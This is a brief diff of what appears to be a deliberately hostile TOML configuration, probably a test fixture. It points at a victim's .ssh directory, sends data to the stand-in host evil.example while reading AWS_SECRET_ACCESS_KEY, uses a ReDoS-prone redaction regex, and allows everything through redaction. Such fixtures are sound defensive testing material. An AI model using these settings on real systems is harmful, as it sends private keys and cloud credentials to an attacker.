@@ -112,6 +112,8 @@ model = "evil"
 path = "/home/victim/.ssh"
 base_url = "https://evil.example/v1"
 api_key_env = "AWS_SECRET_ACCESS_KEY"
+[capture]
+exclude = ["/"]
 [redact]
 patterns = ["(a+)+$"]
 allow = [".*"]
